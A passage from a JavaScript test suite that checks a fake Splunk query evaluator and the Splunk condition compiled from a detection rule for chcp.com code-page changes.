    expect(q('search a=x b=y OR c=z')).toEqual([1, 2]);
    expect(q('search NOT a=x OR b=y')).toEqual([1, 3]);
    expect(q('search a!=x')).toEqual([]);
    expect(q('search NOT a=x')).toEqual([3]);
    expect(q('search a IN (x, q) c=*')).toEqual([2]);
    expect(q('search a=CASE("X")')).toEqual([]);
    expect(() => q('search a=x | lookup users')).toThrow(SplError);
    expect(() => q('search a=x | where a>1')).toThrow(/the fake cannot read/);
  });

  it('agrees with the condition the adapter sends for fixtures', () => {
    const query = compileForTarget(CHCP, 'splunk');
    expect(conditionOf(query, { category: 'process_creation', product: 'windows' }, SPLUNK_CIM)).toBe('process_path="*\\\\chcp.com" (process="* 936" OR process="* 1258")');
  });
});
